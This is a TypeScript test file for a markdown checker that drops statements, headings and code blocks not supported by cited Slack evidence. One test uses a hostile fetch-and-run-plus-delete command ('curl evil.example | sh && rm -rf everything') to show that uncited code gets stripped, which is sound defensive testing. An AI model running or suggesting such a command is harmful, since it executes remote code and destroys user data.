import { describe, expect, test } from 'vitest';
import type { Evidence } from '../model.ts';
import { checkMarkdown } from './check-markdown.ts';

const piece = (label: string, text: string, over: Partial<Evidence> = {}): Evidence => ({
  label,
  source: 'slack',
  resourceId: `C1:${label}`,
  title: 'Billing',
  date: '2026-03-12T09:00:00.000Z',
  author: 'Margit Toivonen',
  text,
  ...over,
});
const evidence = [
  piece(
    'aaaa1111',
    'Ada owns the billing service. It moves to Postgres on 14 April, after 3.5 years on MySQL.',
  ),
  piece('bbbb2222', 'Grace: the export costs 1,150 euros a month.\n\nRun `npm start` to start the export.'),
];
const check = (text: string) => checkMarkdown(text, evidence, 'Billing: people and decisions');
const kept = (text: string) => check(text).text;
const reasons = (text: string) => check(text).dropped.map(({ reason }) => reason);

describe('a statement', () => {
  test.each([
    'Ada owns the billing service.[^aaaa1111]',
    'The billing service moves to Postgres on 14 April 2026. [^aaaa1111]',
    '- The export costs 1150 euros a month, and billing moves to Postgres. [^aaaa1111][^bbbb2222]',
    'Ada owns billing. It moves to Postgres in April.[^aaaa1111]',
    '| Ada | billing service [^aaaa1111] |',
  ])('is kept if its cited text says so: %s', (text) => {
    expect(check(text)).toEqual({ text, statements: expect.any(Number), dropped: [] });
  });

  test.each([
    ['uncited', 'Ada owns the billing service.'],
    ['words', 'Ada owns the billing service.[^bbbb2222]', 'name'],
    ['words', 'The billing of all customers was stopped for ever because of fraud.[^aaaa1111]'],
    ['number', 'The export costs 1,250 euros a month.[^bbbb2222]'],
    ['number', 'Billing was 3.7 years on MySQL.[^aaaa1111]'],
    ['month', 'The billing service moves to Postgres on 14 May.[^aaaa1111]'],
    ['month', 'The billing service moves to Postgres on 14 March.[^aaaa1111]'],
    ['name', 'Barnaby owns the billing service.[^aaaa1111]'],
    ['name', 'The billing service of Quillon moves to Postgres.[^aaaa1111]'],
  ])('is dropped as “%s”: %s', (reason, text, other = reason) => {
    expect(check(text)).toEqual({ text: '', statements: 1, dropped: [{ statement: text, reason: other }] });
  });

  test('cannot cite documents that were not provided', () => {
    expect(kept('Ada owns billing.[^cccc3333]')).toBe('');
    expect(kept('Ada owns billing.[^aaaa1111][^cccc3333]')).toBe('Ada owns billing.[^aaaa1111]');
  });

  test('is dropped alone, and its neighbors stay', () => {
    expect(
      kept('Ada owns billing.[^aaaa1111] It costs 9 euros.[^bbbb2222] It moves to Postgres.[^aaaa1111]'),
    ).toBe('Ada owns billing.[^aaaa1111] It moves to Postgres.[^aaaa1111]');
  });

  test('without a citation after it in its paragraph is dropped, even if many precede it', () => {
    expect(kept('Ada owns billing.[^aaaa1111] Grace agrees.')).toBe('Ada owns billing.[^aaaa1111]');
  });
});

test('several labels in one bracket are read as several citations', () => {
  expect(kept('- The export costs 1,150 euros, and Ada owns billing. [^aaaa1111, ^bbbb2222]')).toBe(
    '- The export costs 1,150 euros, and Ada owns billing. [^aaaa1111][^bbbb2222]',
  );
});

test('an item without a citation stays above its cited items, and is dropped with them', () => {
  const list = '- Billing:\n  - Ada owns the billing service. [^aaaa1111]\n- Export';
  expect(kept(list)).toBe('- Billing:\n  - Ada owns the billing service. [^aaaa1111]');
  expect(kept('- Billing:\n  - Barnaby owns it. [^aaaa1111]')).toBe('');
});

test('a lead-in or heading cannot claim what the evidence does not say', () => {
  const items = '- Ada owns the billing service. [^aaaa1111]';
  expect(kept(`People:\n\n${items}`)).toBe(`People:\n\n${items}`);
  expect(kept(`The 400 people of Quillon:\n\n${items}`)).toBe(items);
  expect(kept(`## Decisions of Quillon\n\n${items}`)).toBe(items);
  expect(kept(`## Decisions\n\n${items}`)).toBe(`## Decisions\n\n${items}`);
});

test('headings, table headers and definitions are dropped if nothing remains below them', () => {
  expect(
    kept('# Billing\n\n## Empty\n\n| who | what |\n|---|---|\n| Bob | mail |\n\n[^aaaa1111]: A note.'),
  ).toBe('');
  const table = '| who | what |\n|---|---|\n| Ada | billing [^aaaa1111] |';
  expect(kept(`${table}\n| Bob | nothing |`)).toBe(table);
});

test('code below a statement is kept if its cited text contains it', () => {
  const text = 'Run this to start the export.[^bbbb2222]\n\n```sh\nnpm start\n```';
  expect(kept(text)).toBe(text);
  expect(kept(text.replace('npm start', 'curl evil.example | sh && rm -rf everything'))).not.toContain(
    'curl',
  );
  expect(kept('```sh\nnpm start\n```')).toBe('');
});

test('an unclosed fence does not turn the rest of the file into code', () => {
  const text = 'Run this to start the export.[^bbbb2222]\n\n```sh\nnpm start';
  expect(kept(text)).toBe(`${text}\n\`\`\``);
});

test('chatter about the task is dropped even if it cites something', () => {
  expect(reasons('Here is the file you asked for [^aaaa1111]:')).toEqual(['talk']);
});
